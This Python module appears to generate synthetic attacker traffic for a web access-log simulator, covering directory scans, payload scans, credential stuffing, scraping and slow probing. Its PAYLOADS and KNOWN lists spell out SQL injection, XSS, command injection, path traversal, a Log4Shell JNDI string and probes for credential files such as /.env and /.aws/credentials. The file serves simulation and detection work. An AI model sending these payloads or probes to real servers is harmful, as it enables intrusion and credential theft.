"""The simulator's attackers: scans, payloads, stolen passwords, scraping, and slow probing."""

from __future__ import annotations

import random
from collections.abc import Iterator
from urllib.parse import quote, quote_plus

from models.packs.access.site import (
    BROWSERS,
    KINDS,
    NOUNS,
    ORIGIN,
    POSTS,
    PRODUCTS,
    Request,
    body_bytes,
)
from models.packs.access.visitors import DAY, HOUR, MINUTE, SECOND

TOOLS = (
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "gobuster/3.6",
)
FOLDERS = ("", "/admin", "/old", "/test", "/dev", "/api", "/tmp", "/site", "/files", "/private")
WORDS = (
    *("backup", "config", "db", "dump", "users", "upload", "console", "debug", "install", "setup"),
    *("shell", "stats", "logs", "cron", "mail", "data", "include", "lib", "secret", "manager"),
)
ENDINGS = ("", ".php", ".zip", ".bak", ".txt", ".old", ".sql", "/")
KNOWN = (
    *("/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/", "/.env", "/.git/config"),
    *("/cgi-bin/luci", "/actuator/health", "/solr/admin/info/system", "/boaform/admin/formLogin"),
    *("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/manager/html", "/owa/", "/hnap1/"),
    *("/administrator/", "/adminer.php", "/info.php", "/.aws/credentials", "/_ignition/execute"),
)
PAYLOADS = (
    *(
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "1; WAITFOR DELAY '0:0:5'--",
    ),
    *("1' AND SLEEP(5)--", "-1 OR 1=1", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini"),
    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)"),
    *(";cat /etc/passwd", "$(id)", "|id", "${jndi:ldap://198.51.100.9/a}", "{{7*7}}"),
    *("php://filter/convert.base64-encode/resource=index.php", "'\"()&%<acx>", "0x31303235343830"),
)
PARAMETERS = ("id", "q", "page", "sort", "category", "file", "lang", "redirect")


def attacks(chance: random.Random, budget: int) -> Iterator[list[Request]]:
    """A day's attacks: about 5 % of its requests, more where the day is small."""
    addresses = [f"198.51.100.{n}" for n in range(1, 255)]
    chance.shuffle(addresses)
    kinds = (
        (_directory_scan, 0.02, 100),
        (_payload_scan, 0.01, 50),
        (_credential_stuffing, 0.007, 60),
        (_scrape, 0.015, 130),
    )
    for attack, share, least in kinds:
        runs = max(1, round(3 * budget / 100_000))
        for _ in range(runs):
            size = max(least, int(budget * share / runs))
            yield attack(chance, addresses.pop(), chance.randrange(22 * HOUR), size)
    for _ in range(max(8, budget // 2_500)):
        yield _slow_probes(chance)


def _spread(chance: random.Random, start: int, mean_gap: float, size: int) -> Iterator[int]:
    at = start
    for _ in range(size):
        yield at
        at += int(chance.expovariate(1.0) * mean_gap)


def _attack(
    at: int, client: str, path: str, status: int, agent: str, method: str = "GET", via: str = ""
) -> Request:
    return Request(at, client, method, path, status, body_bytes(path, status), via, agent, 1)


def _directory_scan(chance: random.Random, client: str, start: int, size: int) -> list[Request]:
    gap = chance.choice((40, 200, 1_500))
    agent = chance.choice((*TOOLS[1:], *BROWSERS))
    method = chance.choice(("GET", "HEAD"))
    requests = []
    for at in _spread(chance, start, gap, size):
        path = f"{chance.choice(FOLDERS)}/{chance.choice(WORDS)}{chance.choice(ENDINGS)}"
        status = chance.choices((404, 403, 301, 200), (93, 4, 2, 1))[0]
        requests.append(_attack(at, client, path, status, agent, method))
    return requests


def _payload_scan(chance: random.Random, client: str, start: int, size: int) -> list[Request]:
    agent = chance.choice((*TOOLS[:2], *BROWSERS))
    requests = []
    for at in _spread(chance, start, chance.choice((150, 1_000, 6_000)), size):
        page, encode = chance.choice(PRODUCTS), chance.choice((quote, quote_plus))
        payload = encode(chance.choice(PAYLOADS))
        path = f"{page}?{chance.choice(PARAMETERS)}={payload}" if chance.random() < 0.8 else page
        status = chance.choices((200, 400, 403, 404, 500), (70, 8, 6, 8, 8))[0]
        requests.append(_attack(at, client, path, status, agent, via=ORIGIN + page))
    return requests


def _credential_stuffing(
    chance: random.Random, client: str, start: int, size: int
) -> list[Request]:
    agent, login = chance.choice(BROWSERS), "/account/login"
    gap = chance.choice((600, 4_000, 15_000))
    reads_form = chance.random() < 0.4
    requests = []
    for at in _spread(chance, start, gap, size):
        if reads_form:
            requests.append(_attack(at - 100, client, login, 200, agent))
        status = 302 if chance.random() < 0.01 else 401
        requests.append(_attack(at, client, login, status, agent, "POST", ORIGIN + login))
    return requests


def _scrape(chance: random.Random, client: str, start: int, size: int) -> list[Request]:
    agent, gap = chance.choice(BROWSERS), chance.choice((400, 1_500, 5_000))
    pages = [*PRODUCTS, *POSTS, *(f"/search?q={kind}+{noun}" for kind in KINDS for noun in NOUNS)]
    first = chance.randrange(len(pages))
    requests = []
    for i, at in enumerate(_spread(chance, start, gap, size)):
        requests.append(_attack(at, client, pages[(first + i) % len(pages)], 200, agent))
    return requests


def _slow_probes(chance: random.Random) -> list[Request]:
    """One of many addresses that share a word list, minutes to an hour between requests."""
    address = chance.getrandbits(20)
    client = f"172.{16 + (address >> 16)}.{address >> 8 & 255}.{address & 255}"
    agent = chance.choice((*BROWSERS, "", "python-requests/2.32.3", "Go-http-client/1.1"))
    gap = chance.randrange(2 * MINUTE, 40 * MINUTE)
    times = _spread(chance, chance.randrange(DAY - 2 * HOUR), gap, chance.randrange(4, 14))
    return [
        _attack(
            at + SECOND, client, chance.choice(KNOWN), chance.choice((404, 404, 404, 403)), agent
        )
        for at in times
    ]
